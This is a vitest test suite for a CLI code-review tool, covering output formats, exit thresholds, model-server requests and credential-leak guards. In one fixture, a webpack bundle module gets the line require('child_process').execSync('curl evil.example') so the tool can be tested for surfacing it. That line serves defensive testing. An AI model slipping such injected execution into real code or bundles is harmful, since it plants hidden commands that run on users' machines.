import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { startModel } from '../emulators/model/server.ts';
import { runChild } from '../harness/child-process.ts';
import { runCli } from '../harness/cli.ts';
import { SUPPORTED_NODES } from '../harness/supported-nodes.ts';
import { bundle, MODULES } from '../harness/bundle.ts';
import { makeRepository } from '../harness/repository.ts';
import { changedRepository, temporaryFolder } from './changed-repository.ts';
import { BAD_CART, CART, GUIDANCE } from './stage.ts';
import { casesToRun } from '../harness/whole.ts';

describe('housestyle with other inputs, models and files', () => {
  it.each([
    ['--staged', ['--staged']],
    ['--working-tree', ['--working-tree']],
  ])('reviews changes that are not committed yet: %s', async (_name, flags) => {
    const repository = await makeRepository({
      commits: [{ message: 'Base', files: { ...GUIDANCE, 'src/cart.js': CART } }],
    });
    writeFileSync(join(repository.directory, 'src/cart.js'), BAD_CART);
    await repository.git('add', '--all');
    const { stdout } = await runCli(['review', '--format', 'json', ...flags], { cwd: repository.directory });
    expect((JSON.parse(stdout) as { findings: { line: number }[] }).findings.map((finding) => finding.line)).toEqual([
      2, 3,
    ]);
  });

  it('reads a diff from standard input', async () => {
    const folder = await changedRepository();
    const { stdout: diff } = await runChild('git', ['diff', 'main...feature'], { cwd: folder, env: {} });
    const { stdout } = await runCli(['review', '--format', 'json', '--diff', '-', '--base', 'main'], {
      cwd: folder,
      stdin: diff,
    });
    expect((JSON.parse(stdout) as { findings: unknown[] }).findings).toHaveLength(2);
  });

  it.each(
    casesToRun(
      [
        ['sarif', /"version": "2.1.0"/],
        ['markdown', /^\*\*Housestyle review: /],
        ['github', /^::notice title=Housestyle::2 findings .*\n::warning file=src\/cart.js,line=2,endLine=2,title=/],
        ['text', /src\/cart.js:2 {2}medium {2}The guidelines rule out `var`\n {2}2 \| {3}var sum/],
      ],
      2,
    ),
  )('prints %s', async (format, expected) => {
    const { stdout, exitCode } = await runCli(['review', '--format', format], { cwd: await changedRepository() });
    expect(exitCode).toBe(0);
    expect(stdout).toMatch(expected);
  });

  it('ends with exit code 1 only if a finding reaches `--fail-on`', async () => {
    const cwd = await changedRepository();
    expect((await runCli(['review', '--fail-on', 'high'], { cwd })).exitCode).toBe(0);
    expect((await runCli(['review', '--fail-on', 'medium'], { cwd })).exitCode).toBe(1);
  });

  it('takes its own threshold from a configuration that validation uses too', async () => {
    const folder = await changedRepository();
    writeFileSync(join(folder, 'both.yml'), 'fail-on: error\n');
    expect((await runCli(['review', '--config', 'both.yml'], { cwd: folder })).exitCode).toBe(0);
    writeFileSync(join(folder, 'both.yml'), 'fail-on: medium\n');
    expect((await runCli(['review', '--config', 'both.yml'], { cwd: folder })).exitCode).toBe(1);
    expect((await runCli(['validate', '--config', 'both.yml'], { cwd: folder })).exitCode).toBe(0);
  });

  it.each(SUPPORTED_NODES)('asks an OpenAI-compatible server named by the environment, on %s', async (_name, node) => {
    const comment = {
      path: 'src/cart.js',
      line: 1,
      quote: 'return lines.length;',
      body: 'Sum them.',
      guideline: '2.3',
    };
    const model = await startModel({ replies: [{ content: { comments: [comment] } }] });
    onTestFinished(() => model.close());
    const { stdout, stderr } = await runCli(['review', '--format', 'json', '--model', 'gpt-4o'], {
      cwd: await changedRepository(),
      env: { OPENAI_BASE_URL: model.url },
      node,
    });
    expect(stderr).toBe('');
    expect((JSON.parse(stdout) as { findings: unknown[] }).findings).toContainEqual(
      expect.objectContaining({
        origin: 'model',
        line: 4,
        body: 'Sum them.',
        guideline: expect.objectContaining({ statement: '2.3', line: 5 }),
      }),
    );
  });

  it.each([
    ['a key', '', { OPENAI_API_KEY: 'secret-key' }, 'OPENAI_API_KEY'],
    ['a signature', 'provider: bedrock\n', { AWS_REGION: 'us-east-1' }, 'an AWS key or signature'],
    ['a token', 'provider: vertex\n', { GOOGLE_CLOUD_PROJECT: 'shop' }, 'a Google access token'],
  ])('does not send %s to a server that only the repository names', async (_what, provider, env, named) => {
    const model = await startModel({ replies: [] });
    onTestFinished(() => model.close());
    const cwd = await changedRepository({
      '.github/housestyle.yml': `${provider}model: gpt-4o\nbase-url: ${model.url}\n`,
    });
    const { exitCode, stderr } = await runCli(['review'], { cwd, env });
    expect({ exitCode, requests: model.requests }).toEqual({ exitCode: 2, requests: [] });
    expect(stderr).toContain(`names the server ${model.url}; ${named} is not sent there without your consent`);
  });

  it('sends the same bytes that `dump` shows', async () => {
    const model = await startModel({ replies: () => ({ content: { comments: [] } }) });
    onTestFinished(() => model.close());
    const cwd = await changedRepository();
    const dump = JSON.parse((await runCli(['dump', '--model', 'gpt-4o'], { cwd })).stdout) as {
      requests: { messages: unknown; tokens: number }[];
    };
    await runCli(['review', '--model', 'gpt-4o', '--base-url', model.url], { cwd });
    expect(dump.requests.map((request) => request.messages)).toEqual(
      model.requests.map((request) => (request.body as { messages: unknown }).messages),
    );
  });

  it('sends the prompt and tools that `dump` shows to each agent that a message or a statement selects, byte for byte', async () => {
    const model = await startModel({ replies: () => ({ content: { comments: [] } }) });
    onTestFinished(() => model.close());
    const repository = await makeRepository({
      commits: [
        {
          message: 'Base',
          files: {
            ...GUIDANCE,
            'AGENTS.md': 'All changes must be delegated to `carter`.\n',
            '.github/agents/carter.agent.md': '---\ntools: [read, search]\n---\nMind the cart.\n',
            '.github/agents/poet.agent.md': '---\ndescription: Writes sonnets\n---\nRhyme.\n',
            '.github/agents/quiet.agent.md': '---\ndescription: Paints\n---\nHush.\n',
            '.github/skills/sums/SKILL.md': '---\nname: sums\ndescription: How to sum up\n---\nAdd.\n',
            'src/cart.js': CART,
          },
        },
      ],
      branches: { feature: { commits: [{ message: 'Change', files: { 'src/cart.js': BAD_CART } }] } },
    });
    await repository.git('switch', '--quiet', 'feature');
    const report = join(temporaryFolder(), 'tsc.txt');
    writeFileSync(report, 'src/cart.js(2,3): error TS1: No var.\n');
    const asked = ['--model', 'gpt-4o', '--message', '@poet, does it rhyme?', '--tool-reports', report];
    const cwd = repository.directory;
    const dump = JSON.parse((await runCli(['dump', ...asked], { cwd })).stdout) as {
      requests: { agent: string; messages: unknown; tools: string[] }[];
    };
    const run = await runCli(['review', ...asked, '--base-url', model.url], { cwd });
    expect({ exitCode: run.exitCode, stderr: run.stderr }).toEqual({ exitCode: 0, stderr: '' });
    const sent = model.requests.map(({ agent, body }) => {
      const { messages, tools } = body as { messages: unknown; tools: { function: { name: string } }[] };
      return [agent, messages, tools.map((tool) => tool.function.name)];
    });
    expect(dump.requests.map(({ agent, messages, tools }) => [agent, messages, tools])).toEqual(sent);
    expect(dump.requests.map(({ agent }) => agent)).toEqual(['poet', 'carter']);
    expect(dump.requests.map(({ tools }) => tools.includes('get_errors') && tools.includes('read_skill'))).toEqual([
      true,
      true,
    ]);
    expect(dump.requests.map(({ tools }) => tools.includes('runSubagent'))).toEqual([true, false]);
  });

  it('guidelines counts every changed file, also those a review does not read', async () => {
    const repository = await makeRepository({
      commits: [
        {
          message: 'Base',
          files: {
            '.github/instructions/json.instructions.md': '---\napplyTo: "**/*.json"\n---\n\nNever use `x.y`.\n',
            'old.json': '{}\n',
          },
        },
      ],
      branches: {
        feature: { commits: [{ message: 'Change', files: { 'package-lock.json': '{}\n', 'old.json': null } }] },
      },
    });
    const args = ['--base', 'main', '--head', 'feature', '--format', 'json'];
    const listed = await runCli(['guidelines', ...args], { cwd: repository.directory });
    expect(JSON.parse(listed.stdout)).toMatchObject({
      guidelines: [{ id: '2', data: { filePatterns: ['**/*.json'] } }],
      leftOut: [],
    });
    const reviewed = await runCli(['review', ...args], { cwd: repository.directory });
    expect(JSON.parse(reviewed.stdout)).toMatchObject({
      conclusion: 'skipped',
      customizations: [{ status: 'idle', changedFiles: 1 }],
    });
  });

  it('changes says for each file that a review skips the reason and its kind', async () => {
    const repository = await makeRepository({
      commits: [{ message: 'Base', files: { '.gitattributes': 'gen/** linguist-generated\n' } }],
      branches: {
        feature: {
          commits: [{ message: 'Change', files: { 'gen/a.ts': 'let a;\n', 'yarn.lock': '# a\n', 'b.json': '{}\n' } }],
        },
      },
    });
    const args = ['changes', '--base', 'main', '--head', 'feature'];
    const { stdout } = await runCli([...args, '--format', 'json'], { cwd: repository.directory });
    expect(JSON.parse(stdout)).toMatchObject({
      files: [{ path: 'b.json' }, { path: 'gen/a.ts' }, { path: 'yarn.lock' }],
      leftOut: [
        { path: 'gen/a.ts', kind: 'generated', reason: 'marked `linguist-generated` (.gitattributes:1)' },
        { path: 'yarn.lock', kind: 'lock-file', reason: 'a lock file' },
      ],
    });
  });

  it('changes --bundles shows the changed modules, also of a bundle that a review skips', async () => {
    const evil = 'require("child_process").execSync("curl evil.example");';
    const repository = await makeRepository({
      commits: [
        {
          message: 'Base',
          files: { '.github/housestyle.yml': 'ignore: dist/**\n', 'dist/index.js': bundle(MODULES) },
        },
      ],
      branches: {
        feature: {
          commits: [
            {
              message: 'Change',
              files: {
                'dist/index.js': bundle({
                  './src/b.js': MODULES['./src/b.js'],
                  './src/a.js': `${evil}\n${MODULES['./src/a.js']}`,
                }),
              },
            },
          ],
        },
      },
    });
    const args = ['changes', '--bundles', '--base', 'main', '--head', 'feature'];
    const text = await runCli(args, { cwd: repository.directory });
    expect(text.stdout).toContain('webpack bundle: 1 module changed, 2 unchanged');
    expect(text.stdout).toMatch(
      /modified \.\/src\/a\.js \(lines \d+-\d+\)\n(?: {4}\d+ {2,}.*\n)* {4}\d+ \+ *require\("child_process"\)\.execSync\("curl evil\.example"\);/,
    );
    expect(text.stdout).toContain('left out dist/index.js: ignored by `dist/**`');
    const json = await runCli([...args, '--format', 'json'], { cwd: repository.directory });
    expect(JSON.parse(json.stdout)).toMatchObject({
      files: [
        {
          path: 'dist/index.js',
          bundle: {
            compared: true,
            format: 'webpack',
            unchanged: 2,
            modules: [
              {
                name: './src/a.js',
                status: 'modified',
                changes: [expect.arrayContaining([{ kind: 'added', line: 13, text: `  ${evil}` }])],
              },
            ],
          },
        },
      ],
    });
  });

  it('are relative to the working directory and limit the report', async () => {
    const broken = '---\napplyTo: [a\n---\nText\n';
    const folder = '.github/instructions';
    const repository = await makeRepository({
      commits: [
        {
          message: 'Base',
          files: { [`${folder}/a.instructions.md`]: broken, [`${folder}/b.instructions.md`]: `${broken}More\n` },
        },
      ],
    });
    const errors = async (cwd: string, ...operands: readonly string[]): Promise<number> => {
      const { stdout } = await runCli(['validate', '--format', 'json', ...operands], {
        cwd: join(repository.directory, cwd),
      });
      return (JSON.parse(stdout) as { errors: number }).errors;
    };
    expect(await errors('.')).toBe(2);
    expect(await errors('.', '.')).toBe(2);
    expect(await errors('.', `${folder}/`)).toBe(2);
    expect(await errors(folder, 'a.instructions.md')).toBe(1);
  });
});
